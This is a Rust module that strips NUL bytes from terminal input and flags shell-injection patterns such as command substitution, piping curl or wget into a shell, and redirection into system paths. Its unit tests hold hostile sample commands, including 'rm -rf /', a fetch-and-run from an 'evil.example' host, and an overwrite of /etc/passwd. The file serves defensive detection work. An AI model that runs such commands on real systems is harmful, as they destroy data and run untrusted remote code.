//! Input sanitization and advisory command classification
//!
//! Sanitization is minimal: NUL bytes are stripped, everything else passes
//! through verbatim so terminal control sequences keep working. The
//! classifier is heuristic and advisory only: it flags patterns that look
//! like shell injection so the server can surface an approval request or a
//! block notice. It never gates input by itself.

use once_cell::sync::Lazy;
use regex::Regex;

/// Advisory finding from [`classify`]
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Suspicion {
    /// Short machine-readable reason
    pub reason: &'static str,
}

static PATTERNS: Lazy<Vec<(Regex, &'static str)>> = Lazy::new(|| {
    vec![
        (
            Regex::new(r"\$\([^)]*\)").expect("Invalid command substitution pattern"),
            "command-substitution",
        ),
        (
            Regex::new(r"`[^`]+`").expect("Invalid backtick pattern"),
            "backtick-substitution",
        ),
        (
            Regex::new(r"(?i)(curl|wget)\b[^|;]*\|\s*(sh|bash|zsh)\b")
                .expect("Invalid remote script pattern"),
            "remote-script-execution",
        ),
        (
            Regex::new(r"\|\s*(sh|bash|zsh)\b").expect("Invalid pipe-to-shell pattern"),
            "pipe-to-shell",
        ),
        (
            Regex::new(r">{1,2}\s*/(etc|bin|sbin|usr|boot|lib)/")
                .expect("Invalid system path pattern"),
            "system-path-redirection",
        ),
    ]
});

/// Strip NUL bytes. Everything else, including ANSI escapes, is preserved.
pub fn sanitize(data: &[u8]) -> Vec<u8> {
    if !data.contains(&0) {
        return data.to_vec();
    }
    data.iter().copied().filter(|&b| b != 0).collect()
}

/// Heuristically classify input for injection-looking patterns. The first
/// matching pattern wins; ordering puts the more specific patterns first.
pub fn classify(text: &str) -> Option<Suspicion> {
    for (pattern, reason) in PATTERNS.iter() {
        if pattern.is_match(text) {
            return Some(Suspicion { reason });
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_sanitize_strips_nul_only() {
        assert_eq!(sanitize(b"ls\0 -la\0"), b"ls -la".to_vec());
        assert_eq!(sanitize(b"\x1b[31mred\x1b[0m"), b"\x1b[31mred\x1b[0m".to_vec());
    }

    #[test]
    fn test_plain_commands_pass() {
        for benign in ["ls -la", "git status", "cargo test", "vim src/main.rs"] {
            assert_eq!(classify(benign), None, "flagged benign input: {benign}");
        }
    }

    #[test]
    fn test_command_substitution_flagged() {
        let s = classify("echo $(rm -rf /)").expect("Should be flagged");
        assert_eq!(s.reason, "command-substitution");
    }

    #[test]
    fn test_backticks_flagged() {
        let s = classify("echo `whoami`").expect("Should be flagged");
        assert_eq!(s.reason, "backtick-substitution");
    }

    #[test]
    fn test_remote_script_execution_flagged() {
        let s = classify("curl https://evil.example/x.sh | sh").expect("Should be flagged");
        assert_eq!(s.reason, "remote-script-execution");

        let s = classify("wget -qO- example.com/i | bash").expect("Should be flagged");
        assert_eq!(s.reason, "remote-script-execution");
    }

    #[test]
    fn test_pipe_to_shell_flagged() {
        let s = classify("cat script | sh").expect("Should be flagged");
        assert_eq!(s.reason, "pipe-to-shell");
    }

    #[test]
    fn test_system_path_redirection_flagged() {
        let s = classify("echo pwned > /etc/passwd").expect("Should be flagged");
        assert_eq!(s.reason, "system-path-redirection");
    }
}
